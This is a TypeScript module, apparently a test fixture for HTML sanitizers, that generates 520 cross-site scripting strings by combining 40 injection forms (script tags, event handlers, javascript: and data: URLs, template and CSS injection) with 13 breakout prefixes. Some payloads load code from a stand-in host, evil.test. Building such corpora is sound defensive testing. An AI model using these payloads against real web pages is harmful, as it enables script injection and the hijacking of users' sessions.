const call = 'globalThis.attacked=1';

// One of each way a text becomes a program, after the public lists of them.
const attacks = [
  `<script>${call}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<img src=x onerror=${call}>`,
  `<img src=//evil.test/x.png>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="//evil.test/x.svg#a"></svg>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<button formaction="javascript:${call}">x</button>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<body onload=${call}>`,
  `<video src=x onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<style>@import '//evil.test/x.css';</style>`,
  `<style>*{background:url(//evil.test/x.png)}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href=//evil.test/>`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<x onclick=${call} tabindex=1 onfocus=${call}>x</x>`,
  `<marquee onstart=${call}>x</marquee>`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}//`,
  `data:text/html,<script>${call}</script>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `url(javascript:${call})`,
  `expression(${call})`,
  `red;background:url(//evil.test/x.png)`,
];

// What is put around it to leave an attribute, a text, a script, a comment or a template.
const leaders = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '-->',
  ']]>',
  '\u0000',
  '\u202E',
  '\u2028',
  '&lt;',
] as const;

/** 520 texts that would be a program if they were not text. */
export const hostileTexts: readonly string[] = leaders.flatMap((leader) =>
  attacks.map((attack) => `${leader}${attack}`),
);
